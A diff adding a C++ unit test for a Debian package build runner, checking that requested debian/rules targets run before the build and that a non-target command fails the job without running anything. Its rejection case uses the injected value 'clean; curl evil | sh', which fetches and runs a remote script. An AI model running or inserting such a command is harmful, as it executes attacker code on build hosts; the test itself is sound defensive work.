@@ -121,6 +121,42 @@ TEST(RunJob, ACancelIsReportedCancelledAndAShutdownHandsTheJobBack) {
   EXPECT_EQ(api2.History(kJob).back(), "Waiting");
 }
 
+// The request's `commands` (pyBit's debian/rules targets) run after the
+// checkout, before the build; one that is not a target name fails the job
+// with the reason in its log, and nothing runs.
+TEST(RunJob, TheRequestsRulesTargetsRunBeforeTheBuildOrRefuseTheJob) {
+  fs::path root = FreshTestDir();
+  BuildRequest request = Request();
+  request.commands = {"fakeroot debian/rules get-orig-source"};
+  FakeControllerApi api;
+  api.AddJob(kJob, "Waiting");
+  FakeRunner runner;
+  runner.respond = Builds({.exit_code = 0});
+  JobEnvironment env{Config(root), api, runner, {.interval = std::chrono::milliseconds(10)}};
+  JobSignals signals{[] { return false; }, [] { return false; }};
+  RunJob(request, env, signals, std::chrono::steady_clock::now());
+  std::vector<std::string> programs;
+  for (const auto& argv : runner.Argvs()) programs.push_back(argv[0] + " " + argv[1]);
+  // git clone, git checkout, the target, then the build.
+  ASSERT_GE(programs.size(), 4u);
+  EXPECT_EQ(programs[1], "git -C");
+  EXPECT_EQ(runner.Argvs()[2],
+            (std::vector<std::string>{"fakeroot", "debian/rules", "get-orig-source"}));
+  EXPECT_EQ(programs[3], "dpkg-buildpackage -us");
+
+  FakeControllerApi api2;
+  api2.AddJob(kJob, "Waiting");
+  FakeRunner runner2;
+  request.commands = {"get-orig-source", "clean; curl evil | sh"};
+  JobEnvironment env2{Config(root), api2, runner2, {.interval = std::chrono::milliseconds(10)}};
+  JobReport refused = RunJob(request, env2, signals, std::chrono::steady_clock::now());
+  EXPECT_NE(refused.outcome, Outcome::kBuilt);
+  EXPECT_EQ(api2.History(kJob).back(), "Failed");
+  EXPECT_TRUE(runner2.commands.empty());
+  EXPECT_NE(api2.Log(kJob, 1).find("'clean; curl evil | sh'"), std::string::npos)
+      << api2.Log(kJob, 1);
+}
+
 TEST(RunJob, AControllerBrieflyAwayLosesNoLogText) {
   fs::path root = FreshTestDir();
   ClientConfig config = Config(root);
